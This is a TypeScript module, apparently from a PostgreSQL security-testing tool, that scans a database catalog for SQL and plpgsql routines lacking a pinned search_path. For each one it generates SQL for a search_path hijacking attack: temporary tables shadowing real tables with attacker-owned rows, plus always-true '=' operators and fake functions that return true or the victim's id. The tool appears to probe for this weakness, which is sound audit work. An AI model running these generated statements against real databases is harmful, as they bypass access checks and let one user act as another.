import type { Catalog, Routine } from "../rows/catalog";
import type { Fill } from "../rows/fill";
import { insertStatement, quoteIdentifier, quoteText } from "../rows/statements";
import { WORLDS, type World } from "../rows/worlds";

/** Objects of one's own that a function without a pinned search_path finds first. */
export function shadowTricks(
  { relations, routines, roles }: Catalog,
  fill: Fill,
  role: string,
  attacker: World,
  victim: World,
): { description: string; statements: string[] }[] {
  const powers = roles.find(({ name }) => name === role);
  const open = routines.filter(
    ({ hasSearchPath, language }) =>
      !hasSearchPath && (language === "sql" || language === "plpgsql"),
  );
  if (!powers || open.length === 0) return [];
  const text = open.map(({ source }) => source).join("\n");
  const schema = powers.creatableSchemas[0];
  const tables = relations.filter(
    ({ kind, name }) =>
      (kind === "r" || kind === "p") &&
      new RegExp(`\\b(?:from|join)\\s+"?${name.replace(/\W/g, "\\$&")}"?\\b(?!\\s*[.(])`, "i").test(
        text,
      ),
  );
  const worlds = [attacker, victim];
  const shadows = tables.map((table) => {
    const columns = table.columns
      .map(({ name, type }) => `${quoteIdentifier(name)} ${type}`)
      .join(", ");
    const into = `pg_temp.${quoteIdentifier(table.name)}`;
    const rows = worlds.flatMap(({ index }) => fill.of(table).rows[index] ?? []);
    return {
      description: `shadows ${table.sql} by a temporary table`,
      statements: [
        `create temporary table ${quoteIdentifier(table.name)} (${columns})`,
        ...rows.map((row) => insertStatement(table, withUser(row, attacker), undefined, into)),
      ],
    };
  });
  return [
    ...(powers.temporary ? shadows : []),
    ...(schema === undefined ? [] : [shadowedFunctions(schema, routines, text, victim)]),
  ];
}

/** The row as if all its users were this one. */
function withUser(row: Record<string, string | null>, world: World): Record<string, string | null> {
  const ids: (string | null)[] = WORLDS.map(({ id }) => id);
  return Object.fromEntries(
    Object.entries(row).map(([name, value]) => [name, ids.includes(value) ? world.id : value]),
  );
}

function shadowedFunctions(
  schema: string,
  routines: readonly Routine[],
  text: string,
  victim: World,
): { description: string; statements: string[] } {
  const operator = (type: string) => [
    `create function ${schema}.always(${type}, ${type}) returns boolean language sql as 'select true'`,
    `create operator ${schema}.= (leftarg = ${type}, rightarg = ${type}, function = ${schema}.always)`,
  ];
  const answers: Record<string, string> = {
    boolean: "true",
    uuid: quoteText(victim.id),
    text: quoteText(victim.id),
  };
  const called = routines.filter(
    ({ name, returns, sql }) =>
      returns in answers &&
      !sql.startsWith(`${schema}.`) &&
      new RegExp(`(?<![.\\w])${name}\\(`).test(text),
  );
  const functions = called.map(
    ({ name, arguments: given, returns }) =>
      `create function ${schema}.${quoteIdentifier(name)}(${given.map(({ type }) => type).join(", ")}) ` +
      `returns ${returns} language sql as $f$select ${answers[returns] ?? "null"}::${returns}$f$`,
  );
  return {
    description: `shadows functions and operators in schema ${schema}`,
    statements: [
      ...operator("uuid"),
      ...operator("text"),
      ...functions,
      `set local search_path = ${schema}, pg_catalog, public`,
    ],
  };
}
